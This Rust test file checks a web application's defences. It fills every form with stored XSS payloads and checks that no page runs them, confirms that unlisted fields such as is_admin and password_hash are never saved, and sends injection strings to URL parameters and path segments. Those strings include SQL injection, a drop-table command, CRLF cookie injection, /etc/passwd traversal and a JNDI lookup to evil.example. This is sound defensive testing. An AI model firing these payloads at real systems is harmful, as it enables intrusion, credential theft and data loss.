//! Hostile texts: put into every field for words of every form and read back on every page, into every
//! parameter of every route, and into fields that no form has.

use crate::form_filler::{Filled, forms};
use crate::harness::{World, encode, on_both, on_sqlite};
use crate::kept::{changed, kept};
use crate::matrix::asks;
use crate::rich::Rich;
use axum::http::Method;
use domain::Role;
use std::collections::BTreeSet;
use uuid::Uuid;

/// Texts that a page must not take for anything but words. Each is found again by its mark.
const STORED: [&str; 6] = [
    "zq7<script>alert(zq7)</script>",
    "zq7\" onmouseover=\"alert(zq7)",
    "zq7'><img src=x onerror=alert(zq7)>",
    "zq7{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
    "zq7=HYPERLINK(\"http://zq7.example\")</textarea></title><b>zq7",
    "javascript:alert(zq7)//&lt;zq7&gt;",
];

/// The mark of every hostile text.
const MARK: &str = "zq7";

/// Who fills in forms: together they can open every form there is.
pub(crate) const WRITERS: [(&str, Role); 8] = [
    ("lead", Role::ResettlementWorker),
    ("provider", Role::ServiceWorker),
    ("provider", Role::Administrator),
    ("lead", Role::DataProtectionOfficer),
    ("stranger", Role::DataProtectionOfficer),
    ("lead", Role::Evaluator),
    ("lead", Role::Person),
    ("taker", Role::ResettlementWorker),
];

/// What came of filling in every form once.
#[derive(Default)]
pub(crate) struct Sent {
    pub(crate) taken: BTreeSet<String>,
    pub(crate) refused: BTreeSet<String>,
}

/// Returns whether a page holds a text as anything but words. A file for machines is no page: it is
/// served as JSON, which no browser takes for anything else.
fn breaks_out(page: &str, text: &str) -> bool {
    if page.starts_with('{') {
        return false;
    }
    let is_markup = text.contains(['<', '"', '\'']);
    page.contains("zq749")
        || is_markup && page.contains(text)
        || page.contains("<b>zq7")
        || page.contains("<img src=x")
        || page.contains("<script>alert")
        || page.contains("href=\"javascript:")
        || page.contains("&amp;lt;zq7") && page.contains("<zq7")
}

/// Fills in every form that any page has, with a text in every field for words and with fields that
/// the form does not have.
pub(crate) async fn fill_all(
    world: &World,
    rich: &Rich,
    text: &str,
    more: &[(&str, &str)],
) -> Sent {
    let mut sent = Sent::default();
    let mut done = BTreeSet::new();
    for (place, role) in WRITERS {
        let cookie = world.session(rich.place(place).account(role)).await;
        for asked in asks(rich).iter().filter(|ask| ask.method == Method::GET) {
            if asked.thing.is_some_and(|(case, _)| case.name != "first") {
                continue;
            }
            let page = world.ask("GET", &asked.path, &cookie, String::new()).await;
            assert!(!breaks_out(&page.text, text), "{}: {}", asked.path, page.text);
            for mut form in forms(&page.text, text) {
                let moves = [
                    "/accept",
                    "/abandon",
                    "/deactivate",
                    "/withdraw",
                    "/sign",
                    "/end",
                    "/sign-out-everywhere",
                    "/recover",
                    "/account/password",
                    "/account/second-factor",
                ];
                // What ends the case for the other forms is left for the last.
                let ends = moves.iter().any(|end| form.action.ends_with(end));
                let names: Vec<_> = form.pairs.iter().map(|(name, _)| name.clone()).collect();
                if ends || !done.insert((form.action.clone(), names.clone())) {
                    continue;
                }
                let extra = more.iter().filter(|(name, _)| !names.iter().any(|own| own == name));
                let extra: Vec<_> =
                    extra.map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
                form.pairs.extend(extra);
                let answer = world.ask("POST", &form.action, &cookie, form.body()).await;
                let name = format!("{} {:?}", asked.route, form.texts);
                assert!(!answer.status.is_server_error(), "{name}: {}", answer.text);
                assert!(!breaks_out(&answer.text, text), "{name}: {}", answer.text);
                let kept = if answer.status.is_client_error() {
                    &mut sent.refused
                } else {
                    &mut sent.taken
                };
                kept.insert(name);
            }
        }
    }
    sent
}

#[test]
fn a_hostile_text_in_any_field_is_words_on_every_page() {
    for text in STORED {
        // Pages and not statements are tested: one database will do.
        on_sqlite(&async |world: World| {
            let rich = Rich::build(&world).await;
            let sent = fill_all(&world, &rich, text, &[]).await;
            let tables = kept(&world.db).await;
            let holding: Vec<_> = tables
                .iter()
                .filter(|(_, rows)| rows.contains(MARK))
                .map(|(name, _)| name)
                .collect();
            let mut shown = 0;
            for (place, role) in WRITERS {
                let cookie = world.session(rich.place(place).account(role)).await;
                for asked in asks(&rich).iter().filter(|ask| ask.method == Method::GET) {
                    let page = world.ask("GET", &asked.path, &cookie, String::new()).await;
                    assert!(!page.status.is_server_error(), "{}", asked.path);
                    assert!(!breaks_out(&page.text, text), "{}: {}", asked.path, page.text);
                    shown += usize::from(page.text.contains(MARK));
                }
            }
            println!(
                "{text:?}: {} forms took it, {} refused it; in {holding:?}; on {shown} pages",
                sent.taken.len(),
                sent.refused.len()
            );
            assert!(holding.len() >= 10 && shown >= 20, "{holding:?} {:?}", sent.refused);
        });
    }
}

/// Names of columns of the tables, and of what frameworks bind by themselves.
const NO_FIELDS: [&str; 24] = [
    "id",
    "_id",
    "person_id",
    "account_id",
    "organisation_id",
    "lead",
    "lead_organisation_id",
    "lead_account_id",
    "owner_organisation_id",
    "owner_account_id",
    "provider_id",
    "sender_organisation_id",
    "active",
    "is_admin",
    "complete",
    "password_hash",
    "totp_secret",
    "created_at",
    "recorded_at",
    "signed_by",
    "signed_at",
    "import_hash",
    "need_score",
    "person[lead]",
];

#[test]
fn a_field_that_a_form_does_not_have_is_never_stored() {
    const CANARY: &str = "c0ffee00-c0ff-4c0f-8c0f-c0ffeec0ffee";
    on_sqlite(&async |world: World| {
        let rich = Rich::build(&world).await;
        let more: Vec<_> = NO_FIELDS.iter().map(|name| (*name, CANARY)).collect();
        let sent = fill_all(&world, &rich, "zq7 words", &more).await;
        assert!(sent.taken.len() > 20, "{:?}", sent.refused);
        for (table, rows) in kept(&world.db).await {
            let rows = rows.to_lowercase();
            let found = rows.contains(CANARY) || rows.contains(&CANARY.replace('-', ""));
            assert!(!found, "{table}: {rows}");
        }
    });
}

/// What breaks statements, paths, numbers, dates, templates and logs.
const INJECTED: [&str; 22] = [
    "'",
    "' or '1'='1",
    "\"; drop table person; --",
    "1) union select password_hash from account --",
    "\\",
    "%",
    "_%_",
    "\u{0}",
    "a\u{0}b",
    "a\r\nSet-Cookie: session=evil\r\n\r\n",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "-1",
    "0",
    "99999999999999999999999999",
    "NaN",
    "2026-99-99",
    "+262142-12-31",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "\u{202e}gnp.exe",
    "ﬀ\u{1F469}\u{200D}\u{1F467}",
];

/// Every name that a page reads from its address.
const PARAMETERS: [&str; 21] = [
    "q", "page", "after", "id", "need", "show", "list", "taker", "area", "region", "words", "lang",
    "done", "from", "to", "on", "sort", "who", "role", "group", "number",
];

#[test]
fn no_parameter_breaks_a_page_or_changes_anything() {
    on_both(async |world| {
        let rich = Rich::build(&world).await;
        let long = "a".repeat(3_000);
        let before = kept(&world.db).await;
        for (place, role) in &WRITERS[..5] {
            let cookie = world.session(rich.place(place).account(*role)).await;
            for asked in asks(&rich).iter().filter(|ask| ask.method == Method::GET) {
                if asked.thing.is_some_and(|(case, _)| case.name != "first") {
                    continue;
                }
                // Who is refused the page is refused it whatever the parameters are: `matrix.rs`.
                let plain = world.ask("GET", &asked.path, &cookie, String::new()).await;
                if plain.status.is_client_error() {
                    continue;
                }
                for text in INJECTED.iter().copied().chain([&*long]) {
                    let all: Vec<_> = PARAMETERS.iter().map(|name| (*name, text)).collect();
                    let path = asked.path.split('?').next().unwrap();
                    let path = format!("{path}?{}", encode(&all));
                    let answer = world.ask("GET", &path, &cookie, String::new()).await;
                    assert!(!answer.status.is_server_error(), "{path}: {}", answer.text);
                }
            }
        }
        assert_eq!(changed(&before, &kept(&world.db).await), [] as [String; 0]);
    });
}

#[test]
fn no_part_of_a_path_breaks_a_page_or_changes_anything() {
    on_both(async |world| {
        let before = kept(&world.db).await;
        let cookie = world.session(world.prison_worker).await;
        for route in web::table() {
            if !route.path.contains('{') {
                continue;
            }
            for text in INJECTED {
                let encoded = encode(&[("", text)]).split_off(1).replace('+', "%20");
                let parts = route.path.split('/');
                let parts = parts.map(|part| if part.starts_with('{') { &*encoded } else { part });
                let path = parts.collect::<Vec<_>>().join("/");
                for body in ["", "words=a&name=a"] {
                    let answer =
                        world.ask(route.method.as_str(), &path, &cookie, body.to_owned()).await;
                    // A form that comes back or a redirect would be an answer about a thing.
                    let status = answer.status;
                    assert!(
                        status.is_client_error(),
                        "{} {path} [{}] {status}: {}",
                        route.method,
                        route.path,
                        answer.text
                    );
                }
            }
        }
        assert_eq!(changed(&before, &kept(&world.db).await), [] as [String; 0]);
    });
}

#[test]
fn no_field_of_a_form_breaks_a_page() {
    on_both(async |world| {
        let rich = Rich::build(&world).await;
        let mut asked_of = BTreeSet::new();
        for (place, role) in &WRITERS[..5] {
            let cookie = world.session(rich.place(place).account(*role)).await;
            for asked in asks(&rich).iter().filter(|ask| ask.method == Method::GET) {
                let other = asked.thing.is_some_and(|(case, _)| case.name != "first");
                if other || !asked_of.insert((place, role, asked.route)) {
                    continue;
                }
                let page = world.ask("GET", &asked.path, &cookie, String::new()).await;
                for form in INJECTED.iter().flat_map(|text| filled(&page.text, text)) {
                    let answer = world.ask("POST", &form.action, &cookie, form.body()).await;
                    let (action, status) = (&form.action, answer.status);
                    assert!(
                        !status.is_server_error(),
                        "{action} {:?}: {}",
                        form.pairs,
                        answer.text
                    );
                }
            }
        }
    });
}

/// Returns the forms of a page with one text in every field, of whatever kind it is. Each is a form of its
/// own: one with the token of another would count as sent before, and not be looked at.
fn filled(page: &str, text: &str) -> Vec<Filled> {
    let mut forms = forms(page, text);
    for (name, value) in forms.iter_mut().flat_map(|form| &mut form.pairs) {
        *value = if name == "form-token" { Uuid::now_v7().to_string() } else { text.to_owned() };
    }
    forms
}
